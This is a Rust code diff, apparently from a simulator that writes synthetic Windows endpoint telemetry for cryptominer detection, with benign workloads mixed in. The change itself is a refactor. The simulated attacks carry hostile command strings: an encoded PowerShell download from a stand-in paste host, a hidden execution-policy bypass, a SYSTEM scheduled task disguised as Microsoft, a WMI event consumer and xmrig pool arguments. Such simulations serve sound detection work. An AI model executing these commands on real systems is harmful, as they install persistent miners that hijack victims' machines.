@@ -3,7 +3,11 @@
 //! Everything is inert text: wallets are made up, pools do not exist, and the scripts are fragments that cannot run.
 
 use super::{
-    fleet::{self, *},
+    fleet::{
+        ARTIFACTS, BACKUP, BUILD_USER, CMD, COMPILER, CONHOST, DOWNLOADS, DROPPER, FALSE_SVCHOST, INSTALLER, Kind, MACHINES, MEDIA, MSBUILD, ORDERS, PERFSUITE,
+        POOL_ONE, POOL_TWO, POWERSHELL, QUIET_POOL, RELAY, REPOSITORY, ROLLUP, SCHTASKS, SCRCONS, SQLSERVR, SYSTEM, Site, TEMP_MINER, TIWORKER, UPDATES, USER,
+        WEB_POOL, XMRIG,
+    },
     host::{Host, Running, encoded, hours, sha256},
     shapes,
 };
@@ -83,10 +87,10 @@ fn mine(host: &mut Host, miner: Running, at: DateTime<Utc>, pool: &'static Site,
 fn miner_from_downloads(host: &mut Host, at: DateTime<Utc>) {
     let (browser, explorer) = (host.resident("browser"), host.resident("explorer"));
     let folder = r"C:\Users\%user%\Downloads";
-    host.connect(browser, at, &fleet::DOWNLOADS, 9);
+    host.connect(browser, at, &DOWNLOADS, 9);
     host.write_file(browser, at + seconds(9), &format!(r"{folder}\xmrig-6.22.0-msvc-win64.zip"));
-    for (n, file) in ["xmrig.exe", "config.json", "WinRing0x64.sys", "start.cmd"].iter().enumerate() {
-        host.write_file(explorer, at + seconds(60 + n as i64), &format!(r"{folder}\xmrig-6.22.0\{file}"));
+    for (n, file) in (0..).zip(["xmrig.exe", "config.json", "WinRing0x64.sys", "start.cmd"]) {
+        host.write_file(explorer, at + seconds(60 + n), &format!(r"{folder}\xmrig-6.22.0\{file}"));
     }
     let shell = host.start(at + seconds(140), explorer, &CMD, &format!(r#"/c "{folder}\xmrig-6.22.0\start.cmd""#), USER);
     host.start(at + seconds(140), shell, &CONHOST, "0x4", USER);
@@ -100,14 +104,14 @@ const TASK: &str = r"\Microsoft\Windows\WDI\ServiceHostMonitor";
 fn plant_boot_task(host: &mut Host, at: DateTime<Utc>) {
     let folder = r"C:\ProgramData\Microsoft\WinSvc";
     let broker = host.resident("wmiprvse");
-    let shell = host.run(at, broker, &POWERSHELL, r"-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\i.ps1", SYSTEM, 40, 3.0);
-    host.connect(shell, at + seconds(3), &fleet::DROPPER, 8);
+    let shell = host.run(at, broker, &POWERSHELL, r"-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\ProgramData\Microsoft\i.ps1", SYSTEM, (40, 3.0));
+    host.connect(shell, at + seconds(3), &DROPPER, 8);
     host.script(shell, at + seconds(2), "# fragment\n$target = 'C:\\ProgramData\\Microsoft\\WinSvc'\nNew-Item -Type Directory -Force $target | Out-Null");
-    for (n, file) in ["svchost.exe", "config.json"].iter().enumerate() {
-        host.write_file(shell, at + seconds(14 + n as i64), &format!(r"{folder}\{file}"));
+    for (n, file) in (0..).zip(["svchost.exe", "config.json"]) {
+        host.write_file(shell, at + seconds(14 + n), &format!(r"{folder}\{file}"));
     }
     let task = format!(r#"/create /f /tn "{TASK}" /tr "{folder}\svchost.exe" /sc onstart /ru SYSTEM /rl HIGHEST"#);
-    host.run(at + seconds(20), shell, &SCHTASKS, &task, SYSTEM, 1, 0.2);
+    host.run(at + seconds(20), shell, &SCHTASKS, &task, SYSTEM, (1, 0.2));
     let xml = format!(
         "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  \
          <RegistrationInfo><Author>Microsoft Corporation</Author><URI>{TASK}</URI></RegistrationInfo>\r\n  \
@@ -146,8 +150,8 @@ fn wmi_subscription(host: &mut Host, at: DateTime<Utc>) {
             ("Consumer", r#" "\\\\.\\ROOT\\subscription:ActiveScriptEventConsumer.Name=\"WinUpdateCheck\"""#),
             ("Filter", r#" "\\\\.\\ROOT\\subscription:__EventFilter.Name=\"WinUpdateCheck\"""#)]),
     ];
-    for (n, (layout, values)) in rows.into_iter().enumerate() {
-        let at = at + seconds(2 * n as i64);
+    for (n, (layout, values)) in (0..).zip(rows) {
+        let at = at + seconds(2 * n);
         let (time, user) = (at.format("%Y-%m-%d %H:%M:%S%.3f").to_string(), format!(r"CORP\{}", host.machine.user));
         let mut data = shapes::texts([("RuleName", "-"), ("UtcTime", &time), ("Operation", "Created"), ("User", &user)]);
         data.extend(values.iter().map(|(name, value)| (*name, (*value).to_owned())));
@@ -163,10 +167,10 @@ fn wmi_subscription(host: &mut Host, at: DateTime<Utc>) {
 fn exploited_web_server(host: &mut Host, at: DateTime<Utc>) {
     let pool = host.resident("w3wp");
     let fetch = "$c = New-Object Net.WebClient; $c.DownloadFile('https://files.paste-box.example/w', 'C:\\Windows\\Temp\\wmiupd.exe') # fragment";
-    let shell = host.run(at, pool, &CMD, &format!("/c powershell -NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, 90, 0.5);
-    let loader = host.run(at + seconds(1), shell, &POWERSHELL, &format!("-NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, 80, 4.0);
+    let shell = host.run(at, pool, &CMD, &format!("/c powershell -NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, (90, 0.5));
+    let loader = host.run(at + seconds(1), shell, &POWERSHELL, &format!("-NoP -W Hidden -Enc {}", encoded(fetch)), WEB_POOL, (80, 4.0));
     host.script(loader, at + seconds(3), fetch);
-    host.connect(loader, at + seconds(4), &fleet::DROPPER, 12);
+    host.connect(loader, at + seconds(4), &DROPPER, 12);
     host.write_file(loader, at + seconds(16), r"C:\Windows\Temp\wmiupd.exe");
     host.write_file(loader, at + seconds(17), r"C:\Windows\Temp\WinRing0x64.sys");
     let arguments = format!("--url stratum+ssl://xmr-eu.pool-two.example:14433 --user {} --pass web --coin monero --background", wallet("two"));
@@ -185,34 +189,34 @@ fn antivirus_scan(host: &mut Host, at: DateTime<Utc>) {
 
 fn update_day(host: &mut Host, at: DateTime<Utc>) {
     host.connect(host.resident("update"), at, &UPDATES, 240);
-    let installer = host.run(at + seconds(200), host.resident("services"), &INSTALLER, "", SYSTEM, 2_700, 0.5);
-    let worker = host.run(at + seconds(205), host.resident("dcom"), &TIWORKER, "-Embedding", SYSTEM, 2_600, 1.0);
+    let installer = host.run(at + seconds(200), host.resident("services"), &INSTALLER, "", SYSTEM, (2_700, 0.5));
+    let worker = host.run(at + seconds(205), host.resident("dcom"), &TIWORKER, "-Embedding", SYSTEM, (2_600, 1.0));
     host.busy(worker, at + seconds(220), at + seconds(2_500), 36.0, 0.5);
     host.busy(installer, at + seconds(220), at + seconds(2_500), 4.0, 0.5);
 }
 
 fn compile(host: &mut Host, at: DateTime<Utc>) {
-    let build = host.run(at, host.resident("code"), &MSBUILD, r#""C:\src\portal\portal.sln" /m:8 /p:Configuration=Release"#, USER, 4_200, 3.0);
+    let build = host.run(at, host.resident("code"), &MSBUILD, r#""C:\src\portal\portal.sln" /m:8 /p:Configuration=Release"#, USER, (4_200, 3.0));
     let mut next = at + seconds(5);
     while next < at + seconds(4_100) {
         let length = host.rng.random_range(20..180);
         let load = host.rng.random_range(4.0..9.0);
-        host.run(next, build, &COMPILER, r#"/c /nologo /O2 /Fo"x64\Release\" src\module%n%.cpp"#, USER, length, load);
+        host.run(next, build, &COMPILER, r#"/c /nologo /O2 /Fo"x64\Release\" src\module%n%.cpp"#, USER, (length, load));
         // Linking and waiting leave the processors idle for a while.
         next += seconds(if host.rng.random_bool(0.05) { 240 } else { host.rng.random_range(6..22) });
     }
 }
 
 fn backup(host: &mut Host, at: DateTime<Utc>) {
-    let agent = host.run(at, host.resident("services"), &BACKUP, r#"--job "nightly full" --repository srv-bkp-01.corp.example:10006"#, SYSTEM, 10_900, 0.5);
+    let agent = host.run(at, host.resident("services"), &BACKUP, r#"--job "nightly full" --repository srv-bkp-01.corp.example:10006"#, SYSTEM, (10_900, 0.5));
     host.connect(agent, at + seconds(20), &REPOSITORY, 10_800);
     host.busy(agent, at + seconds(30), at + seconds(10_700), 38.0, 0.3);
 }
 
 fn build_job(host: &mut Host, at: DateTime<Utc>) {
     let step = encoded("Set-Location C:\\agent\\_work\\7\\s; dotnet build -c Release; & .\\bin\\perfsuite.exe --suite hashing --minutes 90");
-    let shell = host.run(at, host.resident("runner"), &POWERSHELL, &format!("-NoLogo -NoProfile -NonInteractive -EncodedCommand {step}"), BUILD_USER, 6_300, 0.4);
-    let suite = host.run(at + seconds(240), shell, &PERFSUITE, "--suite hashing --minutes 90", BUILD_USER, 5_400, 1.0);
+    let shell = host.run(at, host.resident("runner"), &POWERSHELL, &format!("-NoLogo -NoProfile -NonInteractive -EncodedCommand {step}"), BUILD_USER, (6_300, 0.4));
+    let suite = host.run(at + seconds(240), shell, &PERFSUITE, "--suite hashing --minutes 90", BUILD_USER, (5_400, 1.0));
     host.busy(suite, at + seconds(245), at + seconds(5_600), 82.0, 0.03);
     host.connect(suite, at + seconds(250), &ARTIFACTS, 5_300);
 }
@@ -224,7 +228,7 @@ fn video_call(host: &mut Host, at: DateTime<Utc>) {
 }
 
 fn in_house_tool(host: &mut Host, at: DateTime<Utc>) {
-    let tool = host.run(at, host.resident("explorer"), &ROLLUP, r"/month /out C:\Users\%user%\Documents\rollup-%n%.xlsx", USER, 2_700, 1.0);
+    let tool = host.run(at, host.resident("explorer"), &ROLLUP, r"/month /out C:\Users\%user%\Documents\rollup-%n%.xlsx", USER, (2_700, 1.0));
     host.connect(tool, at + seconds(4), &ORDERS, 2_600);
     host.busy(tool, at + seconds(5), at + seconds(2_650), 47.0, 0.3);
 }
